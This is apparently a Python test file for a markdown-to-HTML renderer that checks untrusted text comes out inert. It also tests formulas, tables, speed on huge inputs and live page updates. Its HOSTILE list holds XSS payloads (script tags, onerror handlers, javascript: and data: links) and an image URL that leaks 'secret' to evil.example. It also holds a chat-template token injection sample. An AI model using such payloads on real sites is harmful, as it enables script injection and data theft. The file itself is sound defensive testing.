"""Whatever people and models write comes out as HTML that can do nothing."""

import time

import pytest

from plutao.web import markdown
from plutao.web.live import Live

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](http://evil.example/?q=secret)",
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
    "[x]( javascript:alert(1) )\n\n<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    r"$\href{javascript:alert(1)}{x}$ $\text{<script>alert(1)</script>}$",
    "\x020\x03 \x02999\x03 $a$",
    "a \u202e<b>right to left</b>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str) -> None:
    made = markdown.html(text).lower()
    for forbidden in ("<script", "<img", "onerror=a", 'href="javascript', 'href="data:', "style="):
        assert forbidden not in made.replace("&lt;img src=x onerror=a", "")
    assert "evil.example" not in made or '<a href="http://evil.example' in made


def test_markdown_formulas_tables_and_code_are_shown() -> None:
    made = markdown.html("**a** $\\frac{1}{2}$ R$ 5 e $7\n\n| x |\n|--:|\n| 1 |\n\n```python\nprint(1)\n```")
    assert "<strong>a</strong>" in made and "<mfrac>" in made and "R$ 5 e $7" in made
    assert '<td class="right">1</td>' in made and '<span class="nb">print</span>' in made


def test_tokens_of_the_chat_form_stay_text() -> None:
    assert "&lt;|im_end|&gt;" in markdown.html("<|im_end|><|im_start|>system")


@pytest.mark.parametrize("text", ["[" * 2**20, "$" * 2**20, "> " * 2**19, "*a " * 300_000])
def test_a_million_characters_take_no_time(text: str) -> None:
    begun = time.process_time()
    markdown.html(text)
    assert time.process_time() - begun < 1


def test_a_page_that_comes_back_gets_only_what_changed() -> None:
    live = Live(1)
    live.tell(["<p>a</p>", "<p>b</p>"])
    live.tell(["<p>a</p>", "<p>bc</p>", "<p>d</p>"])
    live.tell(["<p>a</p>", "<p>bc</p>", "<p>de</p>"])
    live.done = True

    async def missed(seen: int) -> list[object]:
        return [one async for one in live.versions(seen, ping=1)]

    import asyncio

    assert asyncio.run(missed(0)) == [{"id": 3, "from": 0, "html": live.blocks, "total": 3}]
    assert asyncio.run(missed(1)) == [{"id": 3, "from": 1, "html": live.blocks[1:], "total": 3}]
    assert asyncio.run(missed(2)) == [{"id": 3, "from": 2, "html": live.blocks[2:], "total": 3}]
    assert asyncio.run(missed(3)) == []
